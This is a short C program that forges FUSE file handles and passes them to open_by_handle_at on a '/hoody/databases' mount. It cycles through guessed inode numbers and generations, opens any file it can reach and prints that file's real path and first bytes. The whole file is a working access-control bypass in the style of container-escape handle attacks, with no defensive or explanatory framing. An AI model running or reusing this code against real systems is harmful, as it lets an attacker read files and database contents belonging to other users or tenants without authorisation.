#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* How FUSE makes handles: high and low half of the number, generation. */
#define FUSE_HANDLE 0x81

static void try(int mount, struct file_handle *h, const char *what) {
    int fd = open_by_handle_at(mount, h, O_RDONLY);
    if (fd < 0) {
        printf("tried %s: %s\n", what, strerror(errno));
        return;
    }
    char path[4096], content[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, path, sizeof path - 1);
    path[n < 0 ? 0 : n] = 0;
    n = read(fd, content, sizeof content - 1);
    content[n < 0 ? 0 : n] = 0;
    printf("tried and opened %s: %s %s\n", what, path, content);
    close(fd);
}

int main(int argc, char **argv) {
    struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
    int id, mount = open("/hoody/databases", O_RDONLY | O_DIRECTORY);
    h->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, argv[1], h, &id, 0))
        printf("no handle of %s: %s\n", argv[1], strerror(errno));
    else
        try(mount, h, "own");
    for (int i = 2; i < argc; i++) {
        uint64_t number = strtoull(argv[i], 0, 10);
        for (uint32_t generation = 0; generation < 4; generation++) {
            uint32_t words[3] = {number >> 32, (uint32_t)number, generation};
            h->handle_type = FUSE_HANDLE;
            h->handle_bytes = sizeof words;
            memcpy(h->f_handle, words, sizeof words);
            try(mount, h, "other");
        }
    }
    return 0;
}
